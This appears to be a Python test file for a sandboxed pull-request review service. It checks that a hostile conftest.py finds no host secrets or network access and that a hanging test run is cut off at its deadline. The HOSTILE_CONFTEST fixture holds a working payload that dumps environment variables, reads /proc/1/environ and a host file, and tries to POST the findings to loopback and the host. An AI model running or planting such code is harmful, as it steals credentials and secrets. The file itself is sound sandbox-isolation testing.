"""What a hostile pull request can reach: its conftest.py looks for the host's environment,
files and network from inside the sandbox and finds none of them; a test run that hangs is
cut at its deadline; either way the review completes and the sandbox is destroyed."""

from __future__ import annotations

import json
import socket
from pathlib import Path

from tests.conftest import Api, Tenant
from tests.reviews.conftest import (
    BILLING,
    HOST_CANARY,
    LLM_KEY,
    TESTS,
    ModelServer,
    assert_sandbox_gone,
    make_repo,
    review,
    stages,
)

# Runs at collection, before any test: reads what it can and tries to send it home.
HOSTILE_CONFTEST = """
import json, os, socket

FINDINGS = {{"env": dict(os.environ)}}
for path in ({host_file!r}, "/proc/1/environ", "/etc/hostname"):
    try:
        with open(path, "rb") as handle:
            FINDINGS[path] = handle.read().decode(errors="replace")
    except OSError as exc:
        FINDINGS[path] = "error: " + type(exc).__name__
for name, address in {{"loopback": ("127.0.0.1", {port}), "host": ({host_ip!r}, {port})}}.items():
    try:
        with socket.create_connection(address, timeout=5) as conn:
            conn.sendall(b"POST /exfil HTTP/1.0\\r\\nContent-Length: 2\\r\\n\\r\\n{{}}")
        FINDINGS[name] = "connected"
    except OSError as exc:
        FINDINGS[name] = "error: " + type(exc).__name__
try:
    FINDINGS["dns"] = socket.gethostbyname("pypi.org")
except OSError as exc:
    FINDINGS["dns"] = "error: " + type(exc).__name__
"""
PROBE_TEST = """
import json
from conftest import FINDINGS

def test_probe():
    print("FINDINGS=" + json.dumps(FINDINGS, sort_keys=True))
"""
HANGING_TEST = """
import time

def test_waits_forever():
    time.sleep(3600)
"""


def host_address() -> str:
    """This host's address on its outward interface (no packet is sent)."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.connect(("192.0.2.1", 9))
        return str(s.getsockname()[0])


async def test_a_hostile_conftest_finds_nothing_of_the_host(
    rapi: Api, rtenant: Tenant, tmp_path: Path, model_server: ModelServer
) -> None:
    host_file = tmp_path / "host-secret.txt"
    host_file.write_text(HOST_CANARY)
    conftest = HOSTILE_CONFTEST.format(
        host_file=str(host_file), port=model_server.port, host_ip=host_address()
    )
    repo = make_repo(
        tmp_path,
        {"billing.py": BILLING, "test_billing.py": TESTS},
        {"conftest.py": conftest, "test_probe.py": PROBE_TEST},
    )
    before = len(model_server.requests)
    report = await review(
        rapi,
        rtenant,
        repo=str(repo),
        head="pr-42",
        test=["python", "-m", "pytest", "-q", "-rA", "-p", "no:cacheprovider"],
    )
    assert report["state"] == "finished", report
    assert report["test_exit_code"] == 0, report["test_output"]
    line = next(x for x in report["test_output"].splitlines() if x.startswith("FINDINGS="))
    findings = json.loads(line.removeprefix("FINDINGS="))

    # It ran, and saw only the sandbox: no host variable, no host file, no way out.
    assert findings["/etc/hostname"].strip(), findings
    env = findings["env"]
    assert "AIRLOCK_REVIEW_TEST_CANARY" not in env
    assert not any(name.startswith(("AIRLOCK_", "OPENAI_")) for name in env)
    # The one pytest setting the review gives: its results plugin, under a random name.
    assert env["PYTEST_ADDOPTS"].startswith("-p airlock_results_"), env
    assert findings[str(host_file)] == "error: FileNotFoundError"
    assert HOST_CANARY not in json.dumps(findings)
    assert LLM_KEY not in json.dumps(findings) and LLM_KEY not in report["test_output"]
    assert findings["loopback"].startswith("error: ")
    assert findings["host"].startswith("error: ")
    assert findings["dns"].startswith("error: ")
    # Nothing reached the host's server but the host's own model call.
    assert all(r["path"].endswith("/chat/completions") for r in model_server.requests[before:])
    # Its tests passed, but a new conftest.py is test infrastructure: never approved from tests.
    assert report["verdict"] == "REQUEST_CHANGES"
    assert report["gate"]["infrastructure"] == ["conftest.py"]
    await assert_sandbox_gone(rapi, rtenant, report)


async def test_a_hanging_test_run_is_cut_at_its_deadline(
    rapi: Api, rtenant: Tenant, tmp_path: Path
) -> None:
    repo = make_repo(
        tmp_path,
        {"billing.py": BILLING, "test_billing.py": TESTS},
        {"test_hang.py": HANGING_TEST},
    )
    report = await review(rapi, rtenant, repo=str(repo), head="pr-42", timeout_s=8)
    assert report["state"] == "finished", report
    assert report["test_outcome"] == "timeout"
    assert report["test_exit_code"] != 0
    assert stages(report)["test"]["outcome"] == "timeout"
    assert "8 s deadline" in report["test_output"]
    assert report["verdict"] == "REQUEST_CHANGES"
    assert "did not finish within its 8 s deadline" in report["reasoning"]
    await assert_sandbox_gone(rapi, rtenant, report)
